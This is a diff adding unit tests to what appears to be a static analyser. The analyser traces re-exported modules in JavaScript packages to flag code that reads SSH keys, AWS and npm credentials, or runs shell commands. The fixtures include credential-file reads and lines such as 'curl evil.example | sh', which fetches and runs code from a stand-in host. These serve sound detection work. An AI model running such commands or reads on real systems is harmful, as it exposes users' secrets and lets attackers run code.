@@ -80,4 +80,66 @@ db.exec("curl https://evil.example"); sh.log("curl"); gone.exec("curl"); require
     const findings = analyse({ "a-index.js": `require("./shell").exec("ls");`, "shell.js": `module.exports = require("child_process");` }).findings;
     expect(findings.map((f) => `${f.file}:${f.line} ${f.message}`)).toEqual(['a-index.js:1 Runs "ls" (child_process.exec)', "shell.js:1 Hands child_process on to other files (runs commands worked out at run time)"]);
   });
+
+  it("looks through barrels: files that merge or re-export others, however they are written", () => {
+    const read = `(require("os").homedir() + "/.ssh/id_rsa")`;
+    const files = {
+      "a-index.js": `const { slurp } = require("./lib"); slurp${read};
+const ts = require("./ts"); ts.slurp${read};
+const { ns } = require("./esm/index.mjs"); ns.slurp${read};
+require("./named").io.slurp${read};`,
+      "lib/index.js": `module.exports = require("./io");`,
+      "lib/io.js": `exports.slurp = require("fs").readFileSync;`,
+      "ts.js": `"use strict"; __exportStar(require("./lib/io"), exports);`,
+      "esm/index.mjs": `export * as ns from "./io.mjs";`,
+      "esm/io.mjs": `export * from "../lib/index.js";`,
+      "named.js": `exports.io = require("./lib");`,
+    };
+    expect(seen(files, "a-index.js")).toEqual(["1 high Reads SSH keys (~/.ssh/id_rsa)", "2 high Reads SSH keys (~/.ssh/id_rsa)", "3 high Reads SSH keys (~/.ssh/id_rsa)", "4 high Reads SSH keys (~/.ssh/id_rsa)"]);
+  });
+
+  it("reads a member of a default export that is a module, also as tsc compiles it", () => {
+    const files = {
+      "a-index.mjs": `import files from "./files.js";
+files.readFileSync("/home/u/.aws/credentials");`,
+      "b-main.js": `const shell_1 = __importDefault(require("./shell"));
+shell_1.default.exec("curl evil.example | sh");`,
+      "files.js": `import fs from "node:fs";
+export default fs;`,
+      "shell.js": `export default require("child_process");`,
+    };
+    expect(seen(files, "a-index.mjs")).toEqual(["2 high Reads AWS credentials (/home/u/.aws/credentials)"]);
+    expect(seen(files, "b-main.js")).toEqual(['2 info Runs "curl" (child_process.exec)']);
+  });
+
+  it("follows a chain of any length in one more reading of the importer, whatever order the files sort in", () => {
+    const files: Record<string, string> = { "a-index.js": `require("./b1").readFileSync("/root/.ssh/id_ed25519");` };
+    for (let i = 1; i < 8; i++) files[`b${i}.js`] = `module.exports = require("./b${i + 1}");`;
+    files["b8.js"] = `module.exports = require("fs");`;
+    expect(seen(files, "a-index.js")).toEqual(["1 high Reads SSH keys (/root/.ssh/id_ed25519)"]);
+  });
+
+  it("sees what Node loads: a folder for a trailing slash, a require under other names, an import in place", () => {
+    const files = {
+      "a-index.mjs": `(await import("./io.js")).slurp("/home/u/.ssh/id_rsa");
+const load = require; load("./io").slurp("/home/u/.npmrc");
+module.require("./io").slurp("/home/u/.aws/credentials");
+require("./store/").readFileSync("/home/u/.ssh/id_rsa");`,
+      "io.js": `exports.slurp = require("fs").readFileSync;`,
+      "store.js": `module.exports = require("fs");`,
+      "store/index.js": `exports.readFileSync = (key) => cache.get(key);`,
+    };
+    expect(seen(files, "a-index.mjs")).toEqual(["1 high Reads SSH keys (/home/u/.ssh/id_rsa)", "2 high Reads package and git credentials (/home/u/.npmrc)", "3 high Reads AWS credentials (/home/u/.aws/credentials)"]);
+  });
+
+  it("leaves a name the file exports a value of its own under to that value, and keeps Node's modules among a flood of merges", () => {
+    const pads = Array.from({ length: 80 }, (_, i) => `require("os").pad${i}`).join(", ");
+    const files = {
+      "a-index.js": `require("./vfs").readFileSync("/home/u/.ssh/id_rsa");
+require("./flood").readFileSync("/home/u/.ssh/id_rsa");`,
+      "vfs.js": `module.exports = { ...require("fs"), readFileSync: (p) => store.get(p) };`,
+      "flood.js": `Object.assign(module.exports, ${pads}, require("fs"));`,
+    };
+    expect(seen(files, "a-index.js")).toEqual(["2 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
+  });
 });
